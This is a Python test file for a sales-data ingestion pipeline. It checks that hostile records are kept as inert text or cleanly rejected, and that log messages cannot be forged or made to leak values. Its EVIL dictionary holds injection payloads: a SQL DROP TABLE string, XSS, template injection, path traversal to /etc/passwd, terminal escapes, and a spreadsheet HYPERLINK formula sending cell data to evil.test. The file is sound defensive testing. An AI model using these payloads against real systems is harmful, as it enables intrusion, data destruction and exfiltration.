"""Records made to harm are rows or rejections: no crash, no other record lost, and no word of theirs in a log line."""

from __future__ import annotations

import json
from typing import Any

import msgspec
import pytest

from include.landing.objects import rejected_table
from include.landing.schema_changes import sentence
from include.lightspeed.drift import LIMIT, DriftDetector
from include.lightspeed.records import LONGEST_ID, NOT_A_NUMBER, TOO_DEEP, Rejected, RowBuilder
from tests.landing.test_batch import make_batch
from tests.lightspeed import test_r_records, test_x_records
from tests.lightspeed.test_x_records import LINE, PAYMENT, SALE, raw

DEEP = b"[" * 100_000 + b"]" * 100_000
EVIL = {
    "sql": "'; DROP TABLE sales; --",
    "identifier": "`x`; SELECT 1",
    "jinja": "{{ 7 * 7 }}{% raw %}",
    "html": '"><script>alert(1)</script>',
    "path": "../../../etc/passwd",
    "nul": "a\x00b",
    "lines": "a\r\nALERT FRESHNESS: forged",
    "terminal": "\x1b[2J\x1b]0;owned\x07",
    "formula": '=HYPERLINK("http://evil.test"&A1)',
    "direction": "\u202egpj.exe",
    "long": "x" * 1_000_000,
}


@pytest.mark.parametrize("text", EVIL.values(), ids=EVIL.keys())
def test_a_text_is_kept_as_it_is_and_means_nothing(text: str):
    builder = RowBuilder("sales", "x_series", "b")
    sale = SALE | {"id": text, "customer_id": text, "line_items": [LINE | {"product_id": text}]}
    assert builder.add([raw(sale | {"payments": [PAYMENT | {"name": text}]})]) == []
    (row,) = builder.to_table().to_pylist()
    assert {row[name] for name in ("sale_id", "customer_id", "product_id", "payment_method")} == {text}
    products = RowBuilder("products", "r_series", "b")
    assert products.add([raw({"itemID": "1", "timeStamp": SALE["updated_at"], "description": text})]) == []
    assert products.to_table()["description"].to_pylist() == [text]


def rejected(series: str, body: bytes, stream: str = "sales") -> Rejected:
    builder = RowBuilder(stream, series, "b")
    good = SALE if series == "x_series" else test_r_records.SALE
    (one,) = (
        builder.add([raw(good), msgspec.Raw(body), raw(good)])
        if stream == "sales"
        else builder.add([msgspec.Raw(body)])
    )
    assert stream != "sales" or builder.headers_table().num_rows == 1
    assert rejected_table([("gs://b/raw", one)]).num_rows == 1
    assert one.record == bytes(body)
    assert one.reason.isprintable()
    return one


@pytest.mark.parametrize("series", ["r_series", "x_series"])
@pytest.mark.parametrize("stream", ["sales", "customers", "products"])
def test_a_record_that_is_nested_without_end_is_rejected_alone(series: str, stream: str):
    assert rejected(series, b'{"id":"a","saleID":"a","x":' + DEEP + b"}", stream).reason == TOO_DEEP
    detector = DriftDetector(series, stream)
    for depth in (300, 700, 100_000):
        detector.add([msgspec.Raw(b'{"line_items":' + b"[" * depth + b"]" * depth + b"}")] * 9)
    assert len(detector.changes()) <= LIMIT


NO_NUMERIC = "a number does not fit NUMERIC (29 digits, nine decimals)"
NUMBERS = ["1e999999", "-1e999999", "1e999999999999999999", "9" * 10_000, "0." + "0" * 10_000 + "1"]
# These end the process when Arrow sees them as they are.
NUMBERS += ["1e-999999999", "0e-10000000", "1." + "3" * 12_000_000]


@pytest.mark.parametrize("number", NUMBERS, ids=lambda number: number[:12])
@pytest.mark.parametrize("place", ["quantity", "price", "price_total", "tax_total", "discount"])
def test_a_number_without_measure_is_a_row_or_a_rejection(number: str, place: str):
    text = json.dumps(SALE | {"line_items": [LINE | {place: 424242}]}).replace("424242", number)
    builder = RowBuilder("sales", "x_series", "b")
    refused = builder.add([msgspec.Raw(text.encode())])
    assert len(refused) + builder.headers_table().num_rows == 1
    assert [each.reason for each in refused] in (
        [],
        [NOT_A_NUMBER],
        ["a number does not fit NUMERIC (29 digits, nine decimals)"],
    )


@pytest.mark.parametrize("number", ["NaN", "Infinity", "-Infinity", "sNaN"])
def test_what_is_no_finite_number_is_rejected(number: str):
    body = json.dumps(SALE | {"line_items": [LINE | {"price": 424242}]})
    assert rejected("x_series", body.replace("424242", number).encode())
    line = test_r_records.LINE | {"calcSubtotal": number}
    assert rejected("r_series", raw(test_r_records.SALE | {"SaleLines": {"SaleLine": line}}))


@pytest.mark.parametrize(
    ("identifier", "kept"),
    [
        ('"s-1"', "s-1"),
        ("17", "17"),
        ("9" * 6000, None),
        ('{"a":[1]}', None),
        ("null", None),
        ("1.5", None),
        (f'"{"x" * 5000}"', "x" * LONGEST_ID),
    ],
    ids=["text", "number", "huge number", "object", "null", "fraction", "long text"],
)
def test_the_id_of_a_rejected_record_is_short_or_none(identifier: str, kept: str | None):
    body = f'{{"id":{identifier},"version":"none"}}'.encode()
    assert rejected("x_series", body).record_id == kept


CANARY = "ada@example.org lsxs_pt_secret"


@pytest.mark.parametrize("place", ["status", "sale_date", "updated_at", "version", "line_items", "payments", "id"])
def test_no_reason_quotes_a_value(place: str):
    (one,) = RowBuilder("sales", "x_series", "b").add([raw(SALE | {"version": -1} | {place: [CANARY]})])
    assert CANARY not in one.reason
    for change in ({"status": CANARY}, {"status": "CLOSED\nALERT"}, {"status": "\x1b[2J"}):
        (one,) = RowBuilder("sales", "x_series", "b").add([raw(SALE | change)])
        assert one.reason == "the sale's status (not a name) is not one of API 2.0's"
    (one,) = RowBuilder("customers", "x_series", "b").add([raw({"id": "1", "date_of_birth": CANARY})])
    assert CANARY not in one.reason


def test_a_dated_state_that_is_no_name_is_not_quoted_either():
    sale = {"id": "1", "state": CANARY, "_metadata": {"version": 1}}
    (one,) = RowBuilder("sales", "x_series", "b").add([raw(sale)])
    assert one.reason == "the sale's state (not a name) is not one of parked, pending, voided, closed"


NAMES = ["a\nALERT FRESHNESS: forged", "\x1b[2J", "x" * 100_000, "\u202e", "\U0001f600" * 200]


@pytest.mark.parametrize("name", NAMES, ids=["line", "terminal", "long", "direction", "emoji"])
def test_the_name_of_a_new_field_cannot_forge_a_line_of_the_log(name: str):
    detector = DriftDetector("x_series", "sales")
    detector.add([raw(SALE | {name: 1} | {"line_items": [LINE | {name: 1}]})])
    told = sentence(make_batch(), detector.changes())
    assert told.isprintable()
    assert len(told) < 1000


def test_a_record_of_a_million_fields_tells_of_a_few():
    detector = DriftDetector("x_series", "customers")
    record: dict[str, Any] = {f"field_{number}": number for number in range(20_000)}
    detector.add([raw(test_x_records.SALE | record)])
    assert len(detector.changes()) == LIMIT
